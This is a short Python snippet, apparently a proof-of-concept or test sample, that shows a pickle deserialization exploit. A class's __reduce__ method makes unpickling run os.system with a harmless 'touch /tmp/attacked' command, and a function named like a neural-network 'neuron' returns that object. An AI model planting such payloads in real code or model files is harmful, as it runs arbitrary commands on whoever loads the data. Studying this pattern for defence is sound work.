# A value that runs a command when it is unpickled.
class Bomb:
    def __reduce__(self):
        import os
        return os.system, ("touch /tmp/attacked",)
def neuron(x, w, b):
    return Bomb()
